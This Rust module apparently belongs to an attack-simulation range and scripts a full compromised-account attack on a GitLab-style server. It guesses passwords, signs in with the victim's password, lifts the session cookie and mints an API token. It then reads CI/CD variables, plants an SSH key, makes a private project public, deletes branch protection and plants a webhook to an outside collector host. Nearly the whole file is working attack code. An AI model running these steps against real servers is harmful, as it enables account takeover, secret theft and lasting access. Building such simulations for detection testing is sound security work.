//! `compromised-user`: somebody else knows a user's password.
//!
//! After a few wrong guesses the attacker signs in as a browser would, makes a
//! personal token on the settings page, and goes on by the API: variables, an
//! SSH key, a project made public, a protected branch removed, a webhook.

use reqwest::Method;
use serde_json::json;
use url::form_urlencoded;

use super::AttackError;
use super::attacker::{Attacker, Body, Reply, text};
use super::leaked_token::{plant_key, plant_webhook};
use super::loot::{Credential, CredentialKind, Foothold, Loot};
use crate::world::VICTIM_PASSWORD;

/// The victim's username.
pub const USERNAME: &str = "oscar.lindqvist";
/// The key that is planted.
const KEY: &str =
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHarborRangeAttackerKeyCompromisedUser01234 nb-42";
/// Where the planted webhook sends to.
const COLLECTOR: &str = "https://hooks.status-relay.example/push";
/// What is tried before the right one.
const GUESSES: [&str; 3] = ["Harborline2026!", "oscar1987", "lindqvist-harbor"];

/// Runs the attack.
pub(crate) async fn run(attacker: Attacker) -> Result<Loot, AttackError> {
    let session = sign_in(&attacker).await?;
    let token = make_token(&attacker, &session).await?;
    let mut loot = Loot {
        credentials: vec![
            Credential { name: "the browser session".to_owned(), kind: session },
            Credential { name: "a personal token made with it".to_owned(), kind: token.clone() },
        ],
        footholds: Vec::new(),
        variables_read: 0,
        attacker,
    };
    let project = look_around(&mut loot, &token).await?;
    plant_key(&mut loot, &token, "notebook", KEY, &project).await?;
    open_up(&mut loot, &token, &project).await?;
    plant_webhook(&mut loot, &token, &project, COLLECTOR).await?;
    Ok(loot)
}

async fn sign_in(attacker: &Attacker) -> Result<CredentialKind, AttackError> {
    for guess in GUESSES {
        try_password(attacker, "guess the password", guess).await?;
    }
    let reply = try_password(attacker, "sign in with the password", VICTIM_PASSWORD).await?;
    let cookies = reply.accepted()?.headers;
    let cookie = cookies.get("set-cookie").and_then(|value| value.to_str().ok());
    let value = cookie
        .and_then(|cookie| cookie.strip_prefix("_gitlab_session="))
        .and_then(|rest| rest.split(';').next());
    value
        .map(|value| CredentialKind::Session(value.to_owned()))
        .ok_or(AttackError::NotFound("a session cookie"))
}

async fn try_password(
    attacker: &Attacker,
    title: &str,
    password: &str,
) -> Result<Reply, AttackError> {
    let form = form_urlencoded::Serializer::new(String::new())
        .append_pair("user[login]", USERNAME)
        .append_pair("user[password]", password)
        .finish();
    attacker.send(title, (Method::POST, "/users/sign_in"), None, Body::Form(form)).await
}

/// Makes a token on the settings page, for which the session suffices.
async fn make_token(
    attacker: &Attacker,
    session: &CredentialKind,
) -> Result<CredentialKind, AttackError> {
    let body = Body::Json(json!({ "name": "mobile", "scopes": ["api"] }));
    let to = (Method::POST, "/-/user_settings/personal_access_tokens");
    let title = "make a personal token on the settings page";
    let made = attacker.send(title, to, Some(session), body).await?.accepted()?;
    Ok(CredentialKind::AccessToken(made.field("token")))
}

/// Reads what the user may read. Returns the project that he owns.
async fn look_around(loot: &mut Loot, token: &CredentialKind) -> Result<String, AttackError> {
    let (attacker, with) = (loot.attacker.clone(), Some(token));
    attacker.get("ask who the user is", "/user", with).await?.accepted()?;
    let path = "/projects?membership=true&per_page=100";
    let projects = attacker.get("list projects", path, with).await?.accepted()?;
    for project in projects.rows() {
        let path = format!("/projects/{}/variables?per_page=100", text(&project, "id"));
        let variables = attacker.get("read CI/CD variables", &path, with).await?;
        loot.variables_read += variables.rows().len();
    }
    let path = "/projects?owned=true";
    let owned = attacker.get("list own projects", path, with).await?.accepted()?;
    let first = owned.rows().first().map(|row| text(row, "id"));
    first.ok_or(AttackError::NotFound("a project that the user owns"))
}

/// Makes the project public and its main branch writable.
async fn open_up(
    loot: &mut Loot,
    token: &CredentialKind,
    project: &str,
) -> Result<(), AttackError> {
    let attacker = loot.attacker.clone();
    let path = format!("/projects/{project}");
    let body = json!({ "visibility": "public" });
    let title = "make a private project public";
    attacker.write(title, (Method::PUT, &path), Some(token), body).await?.accepted()?;
    loot.footholds.push(Foothold::PublicProject { project: project.to_owned() });

    let path = format!("/projects/{project}/protected_branches/main");
    let title = "remove the protection of a branch";
    attacker.write(title, (Method::DELETE, &path), Some(token), json!({})).await?.accepted()?;
    loot.footholds.push(Foothold::UnprotectedBranch {
        project: project.to_owned(),
        branch: "main".to_owned(),
    });
    Ok(())
}
